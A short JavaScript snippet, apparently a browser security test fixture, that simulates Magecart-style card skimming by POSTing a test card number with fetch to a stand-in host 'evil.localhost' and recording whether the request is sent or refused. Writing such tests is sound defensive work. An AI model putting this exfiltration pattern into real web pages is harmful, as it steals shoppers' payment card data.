// An allowed script exfiltrating with fetch (Magecart's usual channel).
window.fetchResult = 'pending';
fetch('http://evil.localhost/collect?cc=4111111111111111', { method: 'POST', body: 'cc=4111111111111111', mode: 'no-cors' })
  .then(() => { window.fetchResult = 'sent'; })
  .catch(() => { window.fetchResult = 'refused'; });
